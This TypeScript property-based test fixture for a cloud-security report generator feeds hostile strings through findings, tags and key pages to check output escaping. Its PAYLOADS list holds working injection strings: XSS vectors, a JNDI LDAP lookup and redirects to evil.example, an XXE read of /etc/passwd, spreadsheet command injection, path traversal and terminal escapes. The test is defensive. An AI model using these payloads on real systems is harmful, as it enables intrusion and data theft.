import fc from 'fast-check';
import type { Finding } from '../../src/model/finding.ts';
import { UNKNOWN_CLASSES } from '../../src/model/reason.ts';
import { SEVERITIES, VERDICTS } from '../../src/model/rule.ts';
import type { KeyPage } from '../../src/model/run.ts';
import { egoGraphSvg } from '../../src/report/ego-graph.ts';
import { finding, gap, resource, rule, type Story, story } from './run.ts';

/** What an account's owner can write into names, tags, descriptions and policies. */
export const PAYLOADS: readonly string[] = [
  '</script><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '{{x}}{{{y}}}{{#each z}}{{/each}}{{> p}}',
  'javascript:alert(1)',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  'x onmouseover=alert(1)',
  '<!-- comment --!><svg onload=alert(1)>',
  '`$' + '{alert(1)}`',
  '[link](https://evil.example) ![image](https://evil.example/x.png)',
  'abc\u202egnp.exe\u202c\u2066x\u2069',
  'line\nbreak\r\nand\ttab\u0000\u001b[31mred\u009b0m\u007f',
  '\u2028\u2029\ufeff\u200b',
  '\ud800 alone \udc00',
  '&lt;b&gt;&amp;&#60;',
  ']]><x>',
  '../../../etc/passwd',
  '',
  ' '.repeat(50),
  '𝒜𝓌𝓈 キー 🔑'.repeat(20),
  '__proto__',
  // out of an attribute, out of an element, and into ones that browsers mend by themselves
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea></template></noscript><svg/onload=alert(1)>',
  '</pre></code></details><base href=https://evil.example/>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<a href="java\tscript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action=https://evil.example><input name=x autofocus onfocus=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  // links
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://evil.example/"onclick="alert(1)',
  'https://user:password@evil.example/\u202egnp.exe',
  ' javascript:alert(1)',
  '[x](javascript:alert(1))',
  '[x]: https://evil.example "y"\n\n[x]',
  '<https://evil.example>',
  '![x](https://evil.example/x.png "onerror=alert(1)")',
  '\\[x\\](https://evil.example)',
  '[0](0) [1](1)',
  // spreadsheets
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|'x'!A0",
  '\t=1+1',
  '\r=1+1',
  '"x","y"\r\n"=1+1"',
  '=HYPERLINK("https://evil.example","x")',
  // Markdown that ends what it is in
  '```\n# heading\n```',
  '~~~\n| a | b |\n|---|---|\n',
  '| a | b |\n| --- | --- |',
  // logs of CI systems, terminals
  '::set-output name=x::y\n::error file=a,line=1::b',
  '##vso[task.setvariable variable=x]y',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[1;1H\u001b]0;title\u0007',
  '\b\b\b\b\u007f\u0085\u009d0;x\u009c',
  'e\u0301'.repeat(40) + '\u0489'.repeat(60),
  '\u{e0041}\u{e007f}\u00ad\u061c\u180e\ufff9\ufffa\ufffb',
  'constructor',
  'toString',
  '$' + '{jndi:ldap://evil.example/x} #{7*7} <%= 7*7 %> $(id) `id`',
  'x'.repeat(1_000_000),
];

const withText = (text: string): Finding[] => {
  const on = resource({
    id: `arn:aws:ec2:eu-central-1:111122223333:volume/${text}`,
    name: text,
    tags: { [text || 'k']: text, __proto__x: text },
  });
  const reason = { class: 'denied', operation: text, code: text, permission: text, fields: [text] } as const;
  return [
    finding('rule-one', {
      resource: on,
      message: text,
      evidence: { [`resource.${text}`]: text, list: [text], map: { [text]: text } },
      related: [`arn:aws:kms:eu-central-1:111122223333:key/${text}`],
    }),
    finding('rule-two', { resource: on, verdict: 'unknown', message: text, reasons: [reason] }),
    finding('rule-one', {
      resource: on,
      part: text || 'p',
      message: text,
      suppression: { id: text, reason: text, expires: text },
    }),
    finding('not-listed', { resource: { ...on, account: text, region: text }, message: text }),
  ];
};

/** A key of which every text is the payload, its picture drawn from it too. */
function keyWith(text: string): KeyPage {
  const arn = `arn:aws:kms:eu-central-1:111122223333:key/${text}`;
  const node = { id: arn, type: text, name: text, note: text, through: [] };
  const dependent = { id: text, type: text, stops: 'at-once', effectIfDisabled: text };
  return {
    ...{ arn, account: text, region: text, aliases: [text], facts: [[text, text]], exposure: 'public' },
    ...{ users: 1, usersComplete: false, affected: 1, notRead: [text], under: [dependent], further: [dependent] },
    powers: [{ name: 'decrypt', holders: [{ kind: 'role', principal: text, ways: [text] }] }],
    picture: egoGraphSvg({
      key: node,
      dependsOn: [node],
      access: [node],
      usedBy: [node],
      affected: [],
      complete: false,
    }),
  };
}

/** A run in which every text is the payload. */
export const hostileStory = (text: string): Story => {
  const fix = { cli: text, terraform: text, console: text };
  const own = {
    title: text,
    rationale: text,
    remediation: fix,
    controls: { [text]: [text] },
    references: [text, `https://x/${text}`],
    service: text,
  };
  return story([rule('rule-one', own), rule('rule-two', { ...own, severity: 'critical' })], withText(text), {
    tool: { name: text, version: text },
    takenAt: text,
    scopes: [{ partition: text, account: text, region: text, status: 'partial', reason: text }],
    complete: false,
    gaps: [
      gap({
        account: text,
        region: text,
        service: text,
        operation: text,
        code: text,
        permission: text,
        message: text,
        resource: text,
      }),
    ],
    custody: [{ type: text, custody: text, count: 3 }],
    keys: async function* () {
      yield keyWith(text);
    },
    baseline: { changes: [{ id: finding('rule-one').id, rule: text, resource: text, change: 'fixed' }] },
  });
};

const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(...PAYLOADS.slice(0, -1)));
const value = fc.oneof(
  text,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.anything({ withBigInt: true })),
);

/** Any finding that the types allow, and values beyond them. */
const anyFinding: fc.Arbitrary<Finding> = fc
  .record({
    ruleId: fc.constantFrom('rule-one', 'rule-two', 'not-listed'),
    severity: fc.constantFrom(...SEVERITIES),
    verdict: fc.constantFrom(...VERDICTS),
    part: text,
    on: fc.record({
      id: text,
      type: text,
      name: text,
      partition: text,
      account: text,
      region: text,
      tags: fc.dictionary(text, text),
    }),
    message: text,
    evidence: fc.dictionary(text, value),
    reasons: fc.array(
      fc.record({
        class: fc.constantFrom(...UNKNOWN_CLASSES),
        operation: text,
        code: text,
        permission: text,
        fields: fc.array(text),
      }),
      { maxLength: 3 },
    ),
    suppression: fc.option(fc.record({ id: text, reason: text, expires: text }), { nil: undefined }),
  })
  .map(({ ruleId, on, suppression, evidence, ...rest }) =>
    finding(ruleId, {
      ...rest,
      evidence: evidence as Finding['evidence'],
      resource: on,
      ...(suppression && { suppression }),
    }),
  );

export const anyStory: fc.Arbitrary<Story> = fc
  .array(anyFinding, { maxLength: 12 })
  .map((list) => story([rule('rule-one'), rule('rule-two', { severity: 'high' })], list));
